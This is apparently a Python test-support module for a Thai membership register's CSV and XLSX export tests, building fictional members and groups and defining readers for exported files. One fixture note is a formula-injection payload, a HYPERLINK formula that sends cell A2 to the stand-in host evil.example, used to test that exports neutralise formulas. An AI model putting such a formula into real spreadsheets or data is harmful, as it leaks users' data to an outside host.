"""A small register for the export tests, built through the register's own commands, and readers
for what an export wrote. (No tests here: the export test modules import these.)"""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from pathlib import Path

import pytest
import python_calamine
from sqlmodel import Session

from db.engine import Database
from db.groups import add_group_member, end_group_membership, save_group
from db.io import export_members as em
from db.members.edit import delete_member, save_member
from db.members.types import MemberInput
from db.organisations import save_organisation


@pytest.fixture(autouse=True)
def xlsx_read_in_parallel_too(monkeypatch: pytest.MonkeyPatch) -> None:
    """For the parallel export tests (each imports it): the app reads only .csv on two
    connections (PARALLEL_FORMATS); the parallel path is tested with .xlsx too, so that it
    stays correct for any format."""
    monkeypatch.setattr(em, "PARALLEL_FORMATS", frozenset({"csv", "xlsx"}))


BANGKOK = 10
CHIANG_MAI = 50
KHON_KAEN = 40

ID_ZERO = "0100000000018"  # a category-0 ID: the leading zero must survive
ID_A = "1101700203450"
ID_B = "3100600123450"

# Cells a spreadsheet would run as formulas if they were written as they are.
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A2,"คลิก")'
MINUS_NOTE = "-5 บาท ค้างชำระ"
LINE_AT = "@shop_somchai"

# Groups whose names need care in the groups cell (db.io.group_cells): a bracket of its own at
# the end, a ";" (quoted), and a quote.
CLUB = "ชมรมปลัด อบต. (ภาคอีสาน)"
NETWORK = 'เครือข่ายนิติกร; "ภาคเหนือ"'
COMMITTEE = "คณะกรรมการสมาคม"
# somchai's groups cell: in the order he joined them, his role after each but a plain member's.
SOMCHAI_GROUPS = (
    'ชมรมปลัด อบต. (ภาคอีสาน) (สมาชิก); "เครือข่ายนิติกร; ""ภาคเหนือ""" (ประธาน);'
    " คณะกรรมการสมาคม (เลขานุการ)"
)


@dataclass(frozen=True)
class Register:
    database: Database
    ids: dict[str, str]  # short name -> member id
    orgs: dict[str, str]


def _org(session: Session, name: str, type_code: str, province: int) -> str:
    return save_organisation(session, type_code=type_code, name=name, province_code=province)


def build_register(database: Database) -> Register:
    """Five live members (one with every field filled) and one deleted member.

    somchai  สมชาย ใจดี, อบต.หนองบัว (ขอนแก่น), every field, ID with a leading zero,
             notes that look like a formula, LINE ID starting with @
    somying  สมหญิง รักไทย, ทต.บ้านใหม่ (เชียงใหม่), ID_A, "-5 บาท" notes, landline 02
    phairot  ไพโรจน์ เก่งกาจ, ทน.เชียงใหม่ (เชียงใหม่), inactive, no phone
    kesini   เกศินี ศรีสุข, ทต.บ้านใหม่ (เชียงใหม่), 9-digit provincial landline, ID_B
    arun     อรุณ แสงทอง, no organisation, pending, nothing else
    gone     ลบแล้ว ไปแล้ว (deleted: never exported)

    Groups: somchai is in CLUB (member), NETWORK (chair) and COMMITTEE (secretary); somying in
    NETWORK (member); kesini was in COMMITTEE (treasurer) until 2020 (history, not exported).
    """
    with database.session() as s:
        orgs = {
            "kk": _org(s, "องค์การบริหารส่วนตำบลหนองบัว", "sao", KHON_KAEN),
            "ban_mai": _org(s, "เทศบาลตำบลบ้านใหม่", "subdistrict_municipality", CHIANG_MAI),
            "cm_city": _org(s, "เทศบาลนครเชียงใหม่", "city_municipality", CHIANG_MAI),
        }
        rows = {
            "somchai": MemberInput(
                prefix="ว่าที่ร้อยตรี", first_name="สมชาย", last_name="ใจดี",
                first_name_en="Somchai", last_name_en="Jaidee", nickname="ชาย",
                national_id=ID_ZERO, birth_date=dt.date(1980, 2, 29), gender="male",
                personnel_type="local_official", position="ปลัดองค์การบริหารส่วนตำบล",
                position_type="executive", position_level="executive_middle",
                organisation_id=orgs["kk"], phone="0812345678", phone_office="043123456",
                email="somchai@example.com", line_id=LINE_AT,
                address="99/1 หมู่ 2, ตำบลหนองบัว\nอำเภอเมือง จังหวัดขอนแก่น 40000",
                membership_no="000123", status="active", joined_on=dt.date(2014, 10, 2),
                expires_on=dt.date(2027, 9, 30), notes=FORMULA_NOTE,
                consent_date=dt.date(2024, 1, 15),
                consent_purpose='ทะเบียนสมาชิก; ติดต่อ "ประชุม"',
                strengths=("การเงินการคลัง", "กฎหมายท้องถิ่น"),
            ),
            "somying": MemberInput(
                prefix="นางสาว", first_name="สมหญิง", last_name="รักไทย", national_id=ID_A,
                gender="female", organisation_id=orgs["ban_mai"], position="นิติกร",
                phone="0898765432", phone_office="021234567", status="active",
                joined_on=dt.date(2019, 1, 1), notes=MINUS_NOTE, strengths=("กฎหมายท้องถิ่น",),
            ),
            "phairot": MemberInput(
                prefix="นาย", first_name="ไพโรจน์", last_name="เก่งกาจ",
                organisation_id=orgs["cm_city"], position="ครู", status="inactive",
            ),
            "kesini": MemberInput(
                prefix="นาง", first_name="เกศินี", last_name="ศรีสุข", national_id=ID_B,
                organisation_id=orgs["ban_mai"], phone="053123456", status="active",
                strengths=("สาธารณสุข",),
            ),
            "arun": MemberInput(first_name="อรุณ", last_name="แสงทอง", status="pending"),
            "gone": MemberInput(first_name="ลบแล้ว", last_name="ไปแล้ว", phone="0800000000"),
        }  # fmt: skip
        ids = {name: save_member(s, data=data) for name, data in rows.items()}
        _join_groups(s, ids)
        delete_member(s, member_id=ids["gone"])
    return Register(database, ids, orgs)


def _join_groups(session: Session, ids: dict[str, str]) -> None:
    groups = {
        name: save_group(session, name=name, kind=kind)
        for name, kind in ((CLUB, "club"), (NETWORK, "network"), (COMMITTEE, "committee"))
    }
    for member, group, role in (
        ("somchai", CLUB, "member"), ("somchai", NETWORK, "chair"),
        ("somchai", COMMITTEE, "secretary"), ("somying", NETWORK, "member"),
        ("gone", CLUB, "member"),
    ):  # fmt: skip
        add_group_member(session, group_id=groups[group], member_id=ids[member], role=role)
    ended = add_group_member(
        session, group_id=groups[COMMITTEE], member_id=ids["kesini"], role="treasurer",
        started_on=dt.date(2018, 1, 1),
    )  # fmt: skip
    end_group_membership(session, membership_id=ended, ended_on=dt.date(2020, 1, 1))


def read_xlsx(path: Path) -> list[list[object]]:
    """Every row of the first sheet, as python-calamine reads it."""
    workbook = python_calamine.CalamineWorkbook.from_path(str(path))
    try:
        return workbook.get_sheet_by_index(0).to_python(skip_empty_area=False)
    finally:
        workbook.close()


def read_csv(path: Path) -> list[list[str]]:
    """Every row of a CSV file written as UTF-8 with BOM (the BOM is checked and dropped)."""
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def as_dicts(rows: list[list[object]]) -> list[dict[str, object]]:
    """Rows under the first row's headers."""
    header = [str(cell) for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]
